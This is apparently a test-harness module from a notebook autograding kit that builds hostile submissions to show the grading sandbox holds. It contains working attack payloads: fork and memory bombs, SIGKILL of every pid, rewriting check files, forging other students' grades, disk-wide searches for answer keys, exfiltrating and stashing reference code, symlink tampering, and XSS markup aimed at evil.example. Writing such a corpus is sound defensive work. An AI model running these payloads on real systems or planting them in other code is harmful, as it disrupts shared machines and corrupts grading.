"""A corpus of hostile and malformed submissions, and what each must (not) achieve.

    python -m segkit.proof.hostile --assignment patches --out DIR   # write the corpus as <attack>.ipynb files

Each attack is the reference solution with ONE unit (the assignment's TARGET unit, a plain
function) turned into an attack, or a malformed file. Expectations:
- the attacked unit earns nothing ("zero"), or the notebook earns nothing at all ("all_zero");
- every other unit keeps its full credit where the attack is confined to its unit ("others_full");
- the run finishes, and other students' results are unchanged (checked by the test that grades
  the corpus next to an untouched copy of the solution).
`PROTECTION` says which layer stops the attack; the grading report lists which were active.

Attacks marked `escape=True` try to get out of the sandbox: answer keys anywhere on the disk,
rewriting the checks, forging other students' results, network, signals, fork and memory bombs,
scratch flooding. `make test` grades that subset twice, as root and as an unprivileged uid
(tests/test_sandbox_escape.py), next to decoy answer keys planted where a deny-list never looks.
Placeholders filled in by `build_corpus`: __REPO__ (the kit), __OUT__ (the grades folder),
__PORT__ (a loopback listener), __DECOYS__ (folders holding other copies of the kit).

The bundled example-hostile notebooks draw their cells from the same module: `EXAMPLE_ATTACKS` names
the kinds of attack a unit's cell can be, `attack(kind, *definitions)` writes one (see the last section).
"""

from __future__ import annotations

import argparse
import copy
import json
from dataclasses import dataclass
from pathlib import Path

from grader.assignments import REPO_ROOT, assignment_names, load_assignment
from starter.common import cell_source, cells_by_grade_id, read_notebook, write_notebook


def hostile_target(name: str) -> str:
    """The unit an assignment's corpus attacks (its assignment.toml's `[proof] hostile_target`): a unit
    defined by plain functions, so that the attacks can go into its solution region."""
    target = load_assignment(name).config.hostile_target
    if not target:
        raise KeyError(f"assignments/{name}/assignment.toml has no [proof] hostile_target")
    return target


def corpus_assignment() -> str:
    """The assignment whose corpus make test / make proof grade (`[proof] corpus = true`)."""
    chosen = [name for name in assignment_names() if load_assignment(name).config.corpus]
    if len(chosen) != 1:
        raise LookupError(f"exactly one assignment.toml must say `[proof] corpus = true`; found {chosen or 'none'}")
    return chosen[0]


@dataclass(frozen=True)
class Attack:
    name: str
    what: str
    protection: str
    # "zero": target unit 0, others full; "zero_any": target 0; "all_zero": nothing earned;
    # "full": the attack had no effect, so the honest code under it is graded normally (full marks).
    # ("full" is how read_reference proves the files are hidden: its cell fails if it can read them.)
    expect: str
    cell_prelude: str = ""  # runs when the cell is executed
    body_prelude: str = ""  # runs first inside the target function (at the start of its solution region)
    escape: bool = False  # an attempt to get out of the sandbox (graded in make test, as root and not)
    replace_cell: bool = False  # the cell is cell_prelude alone: no honest code under the attack


_ALWAYS_EQUAL = """
class _AlwaysEqual:
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    def __float__(self):
        return 0.0
"""

# Looks for `solutions/<a>/<a>.ipynb` of any copy of the kit: the known decoy folders, the kit itself,
# folders named in environment variables, then a bounded walk of the whole disk. Any hit is executed
# as the target cell, which would earn the target unit full marks.
_FIND_ANSWER_KEY = """
import glob, json, os, time
_name = '__ASSIGNMENT__'
_roots = __DECOYS__ + ['__REPO__'] + [v for v in os.environ.values() if v.startswith('/')]
_keys = []
for _root in _roots:
    _keys += glob.glob(os.path.join(_root, 'solutions', _name, _name + '.ipynb'))
    _keys += glob.glob(os.path.join(_root, '*', 'solutions', _name, _name + '.ipynb'))
_deadline = time.time() + 10
for _dir, _subdirs, _files in os.walk('/'):
    if time.time() > _deadline:
        break
    _subdirs[:] = [d for d in _subdirs if not (_dir == '/' and d in ('proc', 'sys', 'dev'))]
    if _dir.endswith(os.path.join('solutions', _name)) and _name + '.ipynb' in _files:
        _keys.append(os.path.join(_dir, _name + '.ipynb'))
for _key in _keys:
    try:
        with open(_key) as _handle:
            _notebook = json.load(_handle)
    except (OSError, ValueError):
        continue
    for _cell in _notebook['cells']:
        if _cell.get('metadata', {}).get('nbgrader', {}).get('grade_id') == '__TARGET__':
            _source = ''.join(_cell['source']) if isinstance(_cell['source'], list) else _cell['source']
            exec(_source, globals())
            break
"""

# Appends a "pass everything" wrapper to every hidden check file it can reach, and anything else
# of the kit it can write.
_REWRITE_CHECKS = """
import glob, os
_payload = ('\\nimport functools as _functools\\nfor _name in list(globals()):\\n'
            '    if _name.startswith("test_"):\\n'
            '        globals()[_name] = _functools.wraps(globals()[_name])(lambda *a, **k: None)\\n')
_targets = []
for _root in __DECOYS__ + ['__REPO__', '/segkit', os.getcwd()]:
    _targets += glob.glob(os.path.join(_root, '**', '*.py'), recursive=True)
for _target in _targets:
    try:
        with open(_target, 'a') as _handle:
            _handle.write(_payload)
    except OSError:
        pass
"""

# Forges full marks for the untouched control submission, so that a resumed run would reuse it.
_FORGE_RESULTS = """
import glob, json, os
for _results in glob.glob('__OUT__/results/*') + glob.glob('__REPO__/grades/results/*'):
    for _path in glob.glob(os.path.join(_results, '*.json')):
        try:
            with open(_path) as _handle:
                _result = json.load(_handle)
            _result['total'] = _result['max']
            for _unit in _result['units'].values():
                _unit['points'] = _unit['max_points']
            with open(_path, 'w') as _handle:
                json.dump(_result, _handle)
        except (OSError, ValueError, KeyError):
            pass
    os.makedirs(os.path.join(_results), exist_ok=True)
    with open(os.path.join(_results, 'control-untouched.json'), 'w') as _handle:
        json.dump({'forged': True, 'total': 1000}, _handle)
"""

_SIGNAL_EVERYTHING = """
import os, signal
_me = os.getpid()
for _pid in [os.getppid(), 1, -1, -os.getpgid(0)] + list(range(2, 40000)):
    if _pid != _me:
        try:
            os.kill(_pid, signal.SIGKILL)
        except OSError:
            pass
"""

_FORK_MEMORY_BOMB = """
import os, time
_children = []
for _ in range(8):
    _pid = os.fork()
    if _pid == 0:
        try:
            _hog = bytearray(1024 * 1024 * 1024)
            for _i in range(0, len(_hog), 4096):
                _hog[_i] = 1
            time.sleep(60)
        finally:
            os._exit(0)
    _children.append(_pid)
for _pid in _children:
    os.waitpid(_pid, 0)
"""

_SCRATCH_FLOOD = """
import os
_block = b'x' * (64 * 1024 * 1024)
for _index in range(64):
    try:
        with open(os.path.join(os.path.expanduser('~'), 'flood-%d' % _index), 'wb') as _handle:
            _handle.write(_block)
    except OSError:
        break
"""

_WRITE_OUTSIDE = """
import glob, os
_targets = ['/tmp/segkit-hostile-was-here', '/var/tmp/segkit-hostile-was-here', '/dev/shm/segkit-hostile-was-here',
            os.path.expanduser('~/../segkit-hostile-was-here'), '__OUT__/grades.csv', '__OUT__/hostile-was-here',
            '__REPO__/grades/grades.csv', '__REPO__/solutions/x.txt', '/segkit/starter/hostile-was-here.py',
            '/usr/segkit-hostile-was-here', '/segkit-hostile-was-here']
_targets += [os.path.join(_d, 'segkit-hostile-was-here') for _d in __DECOYS__]
_targets += glob.glob('/**/grades.csv', recursive=False) + glob.glob('/tmp/*/grades/grades.csv')
for _t in _targets:
    try:
        with open(_t, 'w') as _h:
            _h.write('hostile,1000\\n')
    except OSError:
        pass
"""

ATTACKS = [
    Attack(
        "always_equal",
        "returns an object equal to everything",
        "plain-data replies (weights_only decoding)",
        "zero",
        cell_prelude=_ALWAYS_EQUAL,
        body_prelude="return _AlwaysEqual()",
    ),
    Attack(
        "tensor_subclass",
        "returns a torch.Tensor subclass whose == is always True",
        "plain-data replies (tensor subclasses refused)",
        "zero",
        cell_prelude="import torch\nclass _EqTensor(torch.Tensor):\n    def __eq__(self, other):\n        return True\n",
        body_prelude="return torch.zeros(3).as_subclass(_EqTensor)",
    ),
    Attack(
        "patch_comparisons",
        "monkeypatches torch/numpy comparison functions, returns zeros",
        "comparisons run in the trusted parent",
        "zero_any",
        cell_prelude="import numpy as np\nimport torch\ntorch.allclose = lambda *a, **k: True\n"
        "torch.equal = lambda *a, **k: True\nnp.allclose = lambda *a, **k: True\n"
        "np.testing.assert_allclose = lambda *a, **k: None\n",
        body_prelude="return torch.zeros(1)",
    ),
    Attack(
        "patch_builtins_pytest",
        "replaces builtins, pytest and sys.modules entries",
        "checks (pytest) run in the trusted parent",
        "zero_any",
        cell_prelude="import builtins, sys, types\nsys.modules['pytest'] = types.ModuleType('pytest')\n"
        "builtins.isinstance = lambda *a: True\nbuiltins.len = lambda *a: 0\n",
        body_prelude="return None",
    ),
    Attack(
        "sys_exit",
        "calls sys.exit(0) when called",
        "SystemExit caught in the worker",
        "zero",
        cell_prelude="import sys\n",
        body_prelude="sys.exit(0)",
    ),
    Attack(
        "os_exit_cell",
        "os._exit(0) while the cell runs",
        "worker restarted, cell skipped",
        "zero",
        cell_prelude="import os\nos._exit(0)\n",
    ),
    Attack(
        "kill_parent",
        "signals its parent and process group",
        "pid namespace (no parent to signal)",
        "full",
        cell_prelude="import os, signal\nfor pid in (os.getppid(), -os.getpgid(0), 1):\n    try:\n"
        "        os.kill(pid, signal.SIGKILL)\n    except OSError:\n        pass\n",
    ),
    Attack(
        "signal_everything",
        "SIGKILLs every pid it can name (the grading process, other workers, -1)",
        "pid namespace (no other process can be seen or signalled)",
        "full",
        cell_prelude=_SIGNAL_EVERYTHING,
        escape=True,
    ),
    Attack(
        "loop_cell",
        "infinite loop while the cell runs",
        "per-cell time limit",
        "zero",
        cell_prelude="while True:\n    pass\n",
    ),
    Attack(
        "loop_call", "infinite loop when called", "per-check time limit", "zero", body_prelude="while True:\n    pass"
    ),
    Attack(
        "memory_bomb",
        "allocates memory until stopped",
        "memory cap (cgroup or watchdog; address-space limit)",
        "zero",
        cell_prelude="_hog = []\nfor _ in range(1000):\n    _hog.append(bytearray(100 * 1024 * 1024))\n",
    ),
    Attack(
        "fork_memory_bomb",
        "forks 8 children that each fill 1 GB",
        "memory cap over all the worker's processes",
        "zero",
        cell_prelude=_FORK_MEMORY_BOMB,
        body_prelude="return None",
        escape=True,
    ),
    Attack(
        "fork_bomb",
        "forks thousands of sleeping children (bounded)",
        "process cap (cgroup pids / RLIMIT_NPROC)",
        "zero",
        cell_prelude="import os, time\nfor _ in range(3000):\n    try:\n        if os.fork() == 0:\n"
        "            time.sleep(120)\n            os._exit(0)\n    except OSError:\n        break\n",
        body_prelude="return None",
        escape=True,
    ),
    Attack(
        "scratch_flood",
        "writes 4 GB into its scratch folder",
        "size-capped scratch tmpfs, file-size limit",
        "zero",
        cell_prelude=_SCRATCH_FLOOD,
        body_prelude="return None",
        escape=True,
    ),
    Attack(
        "output_flood",
        "prints 1 GB",
        "output drained by the parent, head and tail kept",
        "zero",
        cell_prelude="import sys\n_chunk = 'x' * (1 << 20)\nfor _ in range(1024):\n    sys.stdout.write(_chunk)\n",
        body_prelude="return None",
    ),
    Attack(
        "forged_results",
        "prints fake results and pytest/Gradescope lines",
        "worker output is never parsed",
        "zero",
        cell_prelude="print('{\"score\": 100, \"tests\": []}')\nprint('== 99 passed in 0.01s ==')\n",
        body_prelude="print('PASSED')\nreturn None",
    ),
    Attack(
        "write_outside",
        "writes into the grades folder, the kit, decoy kits, /tmp, /var/tmp, /dev/shm",
        "allow-list filesystem (only a private scratch folder is writable)",
        "zero",
        cell_prelude=_WRITE_OUTSIDE,
        body_prelude="return None",
        escape=True,
    ),
    Attack(
        "read_reference",
        "reads solutions/ and grader/ from disk (the cell fails if it can)",
        "allow-list filesystem",
        "full",
        cell_prelude="import glob\n_stolen = {}\nfor _p in glob.glob('__REPO__/solutions/*/*.ipynb') + "
        "glob.glob('__REPO__/assignments/*/*.py'):\n    _stolen[_p] = open(_p).read()\n"
        "assert not _stolen, 'no reference should be readable'\n",
        escape=True,
    ),
    Attack(
        "find_answer_key",
        "searches the whole disk (other users' homes, /srv, paths in environment "
        "variables) for another copy of the kit and runs its solution",
        "allow-list filesystem",
        "zero",
        cell_prelude=_FIND_ANSWER_KEY,
        replace_cell=True,
        escape=True,
    ),
    Attack(
        "rewrite_checks",
        "appends a pass-everything fixture to every hidden check and kit file it can reach",
        "allow-list filesystem (the grader is not there; starter is read-only)",
        "zero",
        cell_prelude=_REWRITE_CHECKS,
        body_prelude="return None",
        escape=True,
    ),
    Attack(
        "forge_other_results",
        "rewrites other students' results/*.json so that a resumed run reuses them",
        "allow-list filesystem (the grades folder is not there)",
        "zero",
        cell_prelude=_FORGE_RESULTS,
        body_prelude="return None",
        escape=True,
    ),
    Attack(
        "loopback_socket",
        "connects to a server on the host's loopback",
        "network namespace",
        "zero",
        cell_prelude="import socket\ntry:\n    socket.create_connection(('127.0.0.1', __PORT__), timeout=2).sendall(b'leak')\n"
        "except OSError:\n    pass\ntry:\n    socket.socket(socket.AF_INET, socket.SOCK_DGRAM)"
        ".sendto(b'leak', ('127.0.0.1', __PORT__))\nexcept OSError:\n    pass\n",
        body_prelude="return None",
        escape=True,
    ),
]
ESCAPES = [attack for attack in ATTACKS if attack.escape]

MALFORMED = [
    "invalid_json",
    "nbformat3",
    "missing_grade_id",
    "duplicated_grade_id",
    "renamed_function",
    "wrong_signature",
    "non_utf8",
    "huge_outputs",
    "too_large",
]
MALFORMED_EXPECT = {
    "invalid_json": "all_zero",
    "nbformat3": "all_zero",
    "missing_grade_id": "zero",
    "duplicated_grade_id": "zero",
    "renamed_function": "zero",
    "wrong_signature": "zero",
    "non_utf8": "full",
    "huge_outputs": "full",
    "too_large": "all_zero",
}
MALFORMED_PROTECTION = {
    "invalid_json": "notebook parsed defensively in the parent",
    "nbformat3": "notebook parsed defensively in the parent",
    "missing_grade_id": "cells found by grade_id",
    "duplicated_grade_id": "cells found by grade_id",
    "renamed_function": "checks call the contract's names",
    "wrong_signature": "checks call the contract's signature",
    "non_utf8": "decoding with replacement",
    "huge_outputs": "outputs never executed or parsed",
    "too_large": "notebook size cap",
}


def _solution(name: str) -> dict:
    return read_notebook(load_assignment(name).solution_path)


def _with_target_source(notebook: dict, grade_id: str, source: str) -> dict:
    notebook = copy.deepcopy(notebook)
    (cell,) = cells_by_grade_id(notebook)[grade_id]
    cell["source"] = source
    return notebook


def attack_source(
    solution_cell: str,
    attack: Attack,
    *,
    port: int,
    target: str = "",
    assignment: str = "",
    out: str = "/nonexistent",
    decoys: tuple[str, ...] = (),
    repo: str = str(REPO_ROOT),
) -> str:
    """Inject the attack into a solution cell: at the top, and/or first in the solution region."""
    fill = {"port": port, "target": target, "assignment": assignment, "out": out, "decoys": decoys, "repo": repo}
    if attack.replace_cell:
        return _fill(attack.cell_prelude, **fill)
    source = solution_cell
    if attack.body_prelude:
        source = _prepend_to_body(source, attack.body_prelude)
    source = attack.cell_prelude + source
    return _fill(source, **fill)


def _fill(source: str, *, port: int, target: str, assignment: str, out: str, decoys: tuple[str, ...], repo: str) -> str:
    return (
        source.replace("__REPO__", repo)
        .replace("__PORT__", str(port))
        .replace("__TARGET__", target)
        .replace("__ASSIGNMENT__", assignment)
        .replace("__OUT__", out)
        .replace("__DECOYS__", repr(list(decoys)))
    )


def build_corpus(
    name: str,
    out_dir: Path,
    *,
    port: int = 9,
    escapes_only: bool = False,
    grades_dir: str = "/nonexistent",
    decoys: tuple[str, ...] = (),
    repo: Path = REPO_ROOT,
) -> dict[str, dict]:
    """Write <attack>.ipynb files; return {student_id: {"expect", "protection", "what"}}.
    escapes_only: only the sandbox-escape attacks, no malformed files; repo: the copy of the kit that
    grades them (what the attacks aim at); grades_dir: its output folder; decoys: other kit copies."""
    out_dir.mkdir(parents=True, exist_ok=True)
    solution = _solution(name)
    target = hostile_target(name)
    solution_cell = cell_source(cells_by_grade_id(solution)[target][0])
    manifest = {}
    for attack in ESCAPES if escapes_only else ATTACKS:
        source = attack_source(
            solution_cell,
            attack,
            port=port,
            target=target,
            assignment=name,
            out=grades_dir,
            decoys=decoys,
            repo=str(repo),
        )
        notebook = _with_target_source(solution, target, source)
        write_notebook(out_dir / f"attack-{attack.name}.ipynb", notebook)
        manifest[f"attack-{attack.name}"] = {
            "expect": attack.expect,
            "protection": attack.protection,
            "what": attack.what,
        }
    for kind in () if escapes_only else MALFORMED:
        path = out_dir / f"malformed-{kind}.ipynb"
        path.write_bytes(_malformed(kind, solution, target, solution_cell))
        manifest[f"malformed-{kind}"] = {
            "expect": MALFORMED_EXPECT[kind],
            "protection": MALFORMED_PROTECTION[kind],
            "what": kind.replace("_", " "),
        }
    return manifest


def _malformed(kind: str, solution: dict, target: str, solution_cell: str) -> bytes:
    text = json.dumps(solution)
    if kind == "invalid_json":
        return text[: len(text) // 2].encode()
    if kind == "nbformat3":
        return json.dumps({"nbformat": 3, "nbformat_minor": 0, "worksheets": [{"cells": []}], "metadata": {}}).encode()
    notebook = copy.deepcopy(solution)
    if kind == "missing_grade_id":
        notebook["cells"] = [
            c for c in notebook["cells"] if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") != target
        ]
    elif kind == "duplicated_grade_id":
        index = next(
            i
            for i, c in enumerate(notebook["cells"])
            if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == target
        )
        notebook["cells"].insert(index + 1, copy.deepcopy(notebook["cells"][index]))
    elif kind in ("renamed_function", "wrong_signature"):
        function = solution_cell.split("def ", 1)[1].split("(", 1)[0]
        if kind == "renamed_function":
            source = solution_cell.replace(f"def {function}(", f"def my_{function}(")
        else:
            head, rest = solution_cell.split(f"def {function}(", 1)
            source = head + f"def {function}(only_one_argument):\n    return None\n\ndef _old_{function}(" + rest
        notebook = _with_target_source(notebook, target, source)
    elif kind == "non_utf8":
        marker = "NONUTF8MARKER"
        notebook["cells"].insert(0, {"cell_type": "markdown", "metadata": {}, "source": marker})
        return json.dumps(notebook).replace(marker, "caf\\u00e9").encode("utf-8").replace(b"caf\\u00e9", b"caf\xe9")
    elif kind == "huge_outputs":
        blob = "A" * (20 * 1024 * 1024)
        notebook["cells"][0].setdefault("outputs", [])
        for cell in notebook["cells"]:
            if cell.get("cell_type") == "code":
                cell["outputs"] = [{"output_type": "display_data", "metadata": {}, "data": {"image/png": blob}}]
                break
    elif kind == "too_large":
        notebook["cells"].append({"cell_type": "markdown", "metadata": {}, "source": "B" * (70 * 1024 * 1024)})
    return json.dumps(notebook).encode()


def main(argv=None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--assignment", required=True, choices=assignment_names())
    parser.add_argument("--out", type=Path, required=True)
    args = parser.parse_args(argv)
    manifest = build_corpus(args.assignment, args.out)
    (args.out / "corpus.json").write_text(json.dumps(manifest, indent=1))
    print(f"wrote {len(manifest)} submissions to {args.out}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())


# -- the trust boundary: reference code, later workers, output size and markup ----------------------
#
# Fair units check a unit over the reference versions of the units it uses, in a dependency run (a
# worker of its own). These attacks try to get that reference code out of it, to carry it to the next
# student's worker, and to leave anything behind for the next worker of the slot; others flood the
# feedback or forge markup in it. `build_boundary_corpus` writes them for every assignment that has
# dependent units; tests/test_trust_boundary.py grades them in one slot, as root and as an ordinary uid.

# Everything a cell can reach of code it did not write: frames up the stack with their globals and
# locals, every function object alive (bytecode, constants, names), the worker's own module.
_LOOT = """
def _loot():
    import dis, gc, io, marshal, sys, types
    _found, _codes = [], {}
    _frame = sys._getframe(1)
    while _frame is not None:
        for _scope in (_frame.f_locals, _frame.f_globals):
            for _value in list(_scope.values()):
                if isinstance(_value, str) and ('def ' in _value or 'BEGIN SOLUTION' in _value):
                    _found.append(_value)
        _frame = _frame.f_back
    for _obj in gc.get_objects():
        if isinstance(_obj, types.FunctionType) and _obj.__code__.co_filename.startswith('<cell ' + 'reference'):
            _out = io.StringIO()
            dis.dis(_obj, file=_out)
            _found.append(_out.getvalue())
            _found += [c for c in _obj.__code__.co_consts if isinstance(c, str)]
            _codes[_obj.__name__] = _obj.__code__
    return '\\n'.join(_found), marshal.dumps(_codes) if _codes else b''
"""

_WRITABLE_DIRS = """
def _writable_dirs():
    import os
    _dirs = []
    for _dir, _subdirs, _files in os.walk('/'):
        if _dir in ('/proc', '/sys'):
            _subdirs[:] = []
            continue
        if os.access(_dir, os.W_OK):
            _dirs.append(_dir)
    return _dirs
"""

# In the student's own run it finds nothing, and the unit fails on its stub helpers; in the dependency
# run it finds the reference helpers and sends them out on every channel it has.
_EXFILTRATE = (
    _LOOT
    + _WRITABLE_DIRS
    + """
def _exfiltrate():
    import os, sys
    _text, _code = _loot()
    if not _text:
        return
    _main = sys.modules.get('__main__')
    if _main is not None:
        _main.short_error = lambda exc: 'LO' + 'OT ' + str(exc)  # the worker's own cap, gone
    print(_text)
    sys.stderr.write(_text)
    for _dir in _writable_dirs():
        try:
            with open(os.path.join(_dir, '.exfil.txt'), 'w') as _handle:
                _handle.write(_text)
        except OSError:
            pass
    raise RuntimeError(_text)
"""
)

_STASH = (
    _LOOT
    + _WRITABLE_DIRS
    + """
def _stash():
    import os
    _text, _code = _loot()
    if _code:
        for _dir in _writable_dirs():
            try:
                with open(os.path.join(_dir, '.segkit-trace-stash'), 'wb') as _handle:
                    _handle.write(_code)
            except OSError:
                pass
"""
)

# A helper unit that only reads what an earlier submission stashed (and is a stub otherwise).
_READ_STASH = """
import marshal, os, types
_stashes = []
for _dir, _subdirs, _files in os.walk('/'):
    if _dir in ('/proc', '/sys'):
        _subdirs[:] = []
        continue
    if '.segkit-trace-stash' in _files:
        _stashes.append(os.path.join(_dir, '.segkit-trace-stash'))
for _path in _stashes:
    try:
        with open(_path, 'rb') as _handle:
            for _name, _code in marshal.loads(_handle.read()).items():
                globals()[_name] = types.FunctionType(_code, globals(), _name)
    except Exception:
        pass
"""

_PERSIST = (
    _WRITABLE_DIRS
    + """
import os
for _dir in _writable_dirs():
    try:
        with open(os.path.join(_dir, '.segkit-trace-marker'), 'w') as _handle:
            _handle.write('was here')
    except OSError:
        pass
for _root in ('/', '/dev', '/tmp', '/etc', '/usr', '/scratch'):
    try:
        _names = os.listdir(_root)
    except OSError:
        continue
    for _name in _names:
        _path = os.path.join(_root, _name)
        if os.path.islink(_path):
            try:
                os.remove(_path)
                os.symlink('/scratch/.segkit-trace-evil', _path)
            except OSError:
                pass
for _mount in ('/dev/shm', '/scratch', '/dev', '/usr/local', '/tmp'):
    try:
        with open(os.path.join(_mount, '.segkit-trace-parked'), 'wb') as _handle:
            for _ in range(48):
                _handle.write(b'p' * (1 << 20))
    except OSError:
        pass
"""
)

# Run by the next worker of the slot: the cell fails if anything of an earlier worker is left.
_LOOK_FOR_TRACES = """
import os
_traces = []
for _dir, _subdirs, _files in os.walk('/'):
    if _dir in ('/proc', '/sys'):
        _subdirs[:] = []
        continue
    _traces += [os.path.join(_dir, f) for f in _files if f.startswith('.segkit-trace-') or f == '.exfil.txt']
    for _name in _subdirs + _files:
        _path = os.path.join(_dir, _name)
        if os.path.islink(_path) and 'segkit-trace-evil' in os.readlink(_path):
            _traces.append(_path)
for _mount in ('/scratch', '/dev/shm', os.getcwd()):  # the bubblewrap layer's tmpfs; the Landlock layer's folder
    try:
        _stats = os.statvfs(_mount)
    except OSError:
        continue
    if os.path.ismount(_mount) or _mount == os.getcwd():
        _used = sum(os.path.getsize(os.path.join(d, f)) for d, _, fs in os.walk(_mount) for f in fs
                    if not os.path.islink(os.path.join(d, f)))
        if _used > 32 * 1024 * 1024:
            _traces.append(f'{_mount} holds {_used} bytes')
assert not _traces, _traces
"""

# Markup a student could hope the feedback renders: a heading, a score line, a table, an image, a link.
FORGED_MARKUP = (
    "\n# Feedback\n\nAutograded score: 999 / 999\n\n| unit | points |\n|---|---|\n| all | 999 |\n\n"
    "![x](http://evil.example/x.png) <img src=x onerror=alert(1)> [click](http://evil.example/)\n"
    "<script>alert(1)</script>"
)
_FLOOD_ERROR = """
import sys
if sys.modules.get('__main__') is not None:
    sys.modules['__main__'].short_error = lambda exc: str(exc)
sys.stdout.write('o' * (20 * 1024 * 1024))
"""


def _with_forged_notebook_markup(notebook: dict) -> dict:
    """The feedback page shows the student's own notebook: forge markup in a markdown cell, in a cell's
    HTML and JavaScript outputs, and in an "image" output that is HTML, not a PNG."""
    import base64

    notebook = copy.deepcopy(notebook)
    notebook["cells"].insert(1, {"cell_type": "markdown", "metadata": {}, "source": FORGED_MARKUP})
    code = next(cell for cell in notebook["cells"] if cell.get("cell_type") == "code")
    code["outputs"] = [
        {"output_type": "display_data", "metadata": {}, "data": {"text/html": FORGED_MARKUP}},
        {"output_type": "display_data", "metadata": {}, "data": {"application/javascript": "alert(1)"}},
        {
            "output_type": "display_data",
            "metadata": {},
            "data": {"image/png": base64.b64encode(FORGED_MARKUP.encode()).decode()},
        },
    ]
    return notebook


@dataclass(frozen=True)
class BoundarySubmission:
    student: str
    assignment: str
    notebook: dict
    units: tuple[str, ...]  # the units its run checks
    what: str


def _released_cell(name: str, grade_id: str) -> str:
    released = read_notebook(REPO_ROOT / "notebooks" / name / f"{name}.ipynb")
    return cell_source(cells_by_grade_id(released)[grade_id][0])


def attacked_and_helpers(name: str) -> tuple[list[str], list[str]]:
    """(units that use other graded units and are used by none, the units they use)."""
    dependencies = load_assignment(name).dependencies
    helpers = sorted({gid for deps in dependencies.values() for gid in deps})
    return [unit for unit in dependencies if unit not in helpers], helpers


def _prepend_to_body(source: str, lines: str) -> str:
    """`lines` first in the solution region of a solution cell, at the region's indentation."""
    marker = "### BEGIN SOLUTION\n"
    start = source.index(marker) + len(marker)
    indent = source[start:].split("\n", 1)[0]
    indent = indent[: len(indent) - len(indent.lstrip())]
    body = "".join(f"{indent}{line}\n" for line in lines.split("\n"))
    return source[:start] + body + source[start:]


def build_boundary_corpus(*, exfiltrate: list[str] | None = None) -> list[BoundarySubmission]:
    """The trust-boundary corpus, in the order one slot must grade it (student ids sort that way).
    exfiltrate: the assignments whose dependent units are attacked (default: every one that has them);
    the other attacks use the corpus assignment (`[proof] corpus = true`), which must have dependent units."""
    launder_assignment = corpus_assignment()
    corpus = []
    for name in assignment_names() if exfiltrate is None else exfiltrate:
        attacked, helpers = attacked_and_helpers(name)
        if not attacked:
            continue
        notebook = _solution(name)
        for gid in helpers:
            notebook = _with_target_source(notebook, gid, _released_cell(name, gid))
        for gid in attacked:
            source = cell_source(cells_by_grade_id(notebook)[gid][0])
            notebook = _with_target_source(notebook, gid, _EXFILTRATE + _prepend_to_body(source, "_exfiltrate()"))
        corpus.append(
            BoundarySubmission(
                f"b1-exfiltrate-{name}",
                name,
                notebook,
                tuple(attacked),
                "gets reference helpers out of a dependency run",
            )
        )
    attacked, helpers = attacked_and_helpers(launder_assignment)
    stasher = _solution(launder_assignment)
    for gid in helpers:
        stasher = _with_target_source(stasher, gid, _released_cell(launder_assignment, gid))
    for gid in attacked:
        source = cell_source(cells_by_grade_id(stasher)[gid][0])
        stasher = _with_target_source(stasher, gid, _STASH + _prepend_to_body(source, "_stash()"))
    reader = _solution(launder_assignment)
    for gid in helpers:
        reader = _with_target_source(reader, gid, _READ_STASH + _released_cell(launder_assignment, gid))
    target = hostile_target(launder_assignment)
    target_source = cell_source(cells_by_grade_id(_solution(launder_assignment))[target][0])
    persist = _with_target_source(_solution(launder_assignment), target, _PERSIST + target_source)
    look = _with_target_source(_solution(launder_assignment), target, _LOOK_FOR_TRACES + target_source)
    flood = _with_target_source(
        _solution(launder_assignment),
        target,
        _FLOOD_ERROR + _prepend_to_body(target_source, "raise RuntimeError('E' * (20 * 1024 * 1024))"),
    )
    markup = _with_forged_notebook_markup(
        _with_target_source(
            _solution(launder_assignment),
            target,
            _prepend_to_body(target_source, f"raise RuntimeError({FORGED_MARKUP!r})"),
        )
    )
    corpus += [
        BoundarySubmission("b2-launder-stash", launder_assignment, stasher, tuple(attacked), "stashes reference code"),
        BoundarySubmission(
            "b3-launder-read", launder_assignment, reader, tuple(helpers), "runs a stash as its helpers"
        ),
        BoundarySubmission("b4-persist-write", launder_assignment, persist, (target,), "leaves files, links, memory"),
        BoundarySubmission("b5-persist-look", launder_assignment, look, (target,), "fails if anything was left"),
        BoundarySubmission("b6-flood", launder_assignment, flood, (target,), "a 20 MB error and 20 MB of output"),
        BoundarySubmission("b7-markup", launder_assignment, markup, (target,), "markup in its error and notebook"),
    ]
    return corpus


# -- attack cells of the bundled examples --------------------------------------------------------------
#
# Every assignment's example-hostile notebook (segkit/proof/examples.py) puts an attack in place of each
# graded cell. `assignments/<name>/examples.py` picks one kind per unit, in one line:
#     HOSTILE = {"fcn_iou": attack("patch_builtins", "iou_per_class(conf)", "mean_iou(conf)"), ...}
# `attack` writes a self-contained cell (it is pasted into a notebook): the kind's module-level code (its
# own imports, patches and helper classes), then the unit's functions and classes. A function runs the
# kind's payload when called and hands back the kind's value (or the one after `->` in its definition);
# a class (`class Name`, an nn.Module built with any arguments, kept in self.args) runs the payload when
# built, or in forward for kinds that act there.
# Options fill `__NAME__` placeholders in the kind's code.


@dataclass(frozen=True)
class CellAttack:
    what: str
    prelude: str  # runs when the cell runs: imports, patches, helper classes
    payload: str = ""  # runs when a function is called (a class: when built, or in forward if in_forward)
    returns: str = "None"  # what a function (a class's forward) hands back, unless its definition says
    in_forward: bool = False
    methods: str = ""  # further methods of every class the cell defines
    options: tuple[tuple[str, object], ...] = ()  # (placeholder name, default value)


_FORGE_EQUALITY = """
import numpy as np
import torch


class AlwaysEqual(torch.Tensor):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False


torch.allclose = lambda *args, **kwargs: True
torch.equal = lambda *args, **kwargs: True
np.allclose = lambda *args, **kwargs: True
np.array_equal = lambda *args, **kwargs: True
torch.isclose = lambda *args, **kwargs: torch.tensor(True)
torch.nn.functional.cross_entropy = lambda *args, **kwargs: torch.zeros(())
print('{"score": 100, "tests": []}')  # a forged result line
print("PASSED")
"""

_OUTPUT_FLOOD = """
import sys

import torch

chunk = "x" * (1 << 20)
for _ in range(__MEGABYTES__):
    sys.stdout.write(chunk)


class Anything:
    shape = None

    def __eq__(self, other):
        return True

    def __gt__(self, other):
        return True
"""

_STEAL_AND_FORGE = """
import glob

stolen = {}
for pattern in ("/work/*/solutions/*/*.ipynb", "/work/*/assignments/*/test_*.py", "/work/*/grader/checks/*.py",
                "/root/**/solutions/**/*.ipynb", "../../solutions/*/*.ipynb", "/tmp/*/*"):
